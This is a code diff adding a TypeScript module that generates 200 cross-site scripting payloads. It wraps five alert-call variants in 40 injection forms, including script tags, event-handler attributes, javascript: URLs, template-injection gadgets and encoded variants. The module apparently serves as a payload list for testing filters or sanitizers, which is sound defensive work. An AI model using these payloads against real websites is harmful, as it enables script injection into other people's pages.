@@ -1,0 +1,48 @@
+/** Ways in which text has been made to run in other people's pages; each calls `alert`. */
+const WRAPS: ((call: string) => string)[] = [
+  (call) => `<script>${call}</script>`,
+  (call) => `</script><script>${call}</script>`,
+  (call) => `"><script>${call}</script>`,
+  (call) => `'><script>${call}</script>`,
+  (call) => `<img src=x onerror=${call}>`,
+  (call) => `"><img src=x onerror=${call}>`,
+  (call) => `<img src=x onerror="${call}"//`,
+  (call) => `<svg onload=${call}>`,
+  (call) => `<svg/onload=${call}//`,
+  (call) => `<svg><script>${call}</script></svg>`,
+  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  (call) => `<body onload=${call}>`,
+  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
+  (call) => `<iframe src="javascript:parent.${call}">`,
+  (call) => `<input autofocus onfocus=${call}>`,
+  (call) => `" autofocus onfocus=${call} x="`,
+  (call) => `' onmouseover=${call} x='`,
+  (call) => `<details open ontoggle=${call}>`,
+  (call) => `<video><source onerror=${call}></video>`,
+  (call) => `<audio src=x onerror=${call}>`,
+  (call) => `<marquee onstart=${call}>`,
+  (call) => `<object data="javascript:${call}">`,
+  (call) => `<embed src="javascript:${call}">`,
+  (call) => `<a href="javascript:${call}">x</a>`,
+  (call) => `javascript:${call}`,
+  (call) => `data:text/html,<script>${call}</script>`,
+  (call) => `<math><mtext><img src=x onerror=${call}>`,
+  (call) => `<style>@import'javascript:${call}'</style>`,
+  (call) => `<div style="background:url(javascript:${call})">`,
+  (call) => `<base href="javascript:${call}//">`,
+  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
+  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  (call) => `<template><script>${call}</script></template>`,
+  (call) => `{{constructor.constructor('${call}')()}}`,
+  (call) => `<!--<img src="--><img src=x onerror=${call}//">`,
+  (call) => `]]><script>${call}</script>`,
+  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
+  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
+  (call) => `%3Cscript%3E${call}%3C/script%3E`,
+  (call) => `<form><button formaction="javascript:${call}">x`,
+];
+
+const CALLS = ["alert(1)", "alert`1`", "window.alert(2)", "top['alert'](3)", "(0,alert)(4)"];
+
+/** 200 of them: each wrap around each call. */
+export const payloads: readonly string[] = WRAPS.flatMap((wrap) => CALLS.map(wrap));
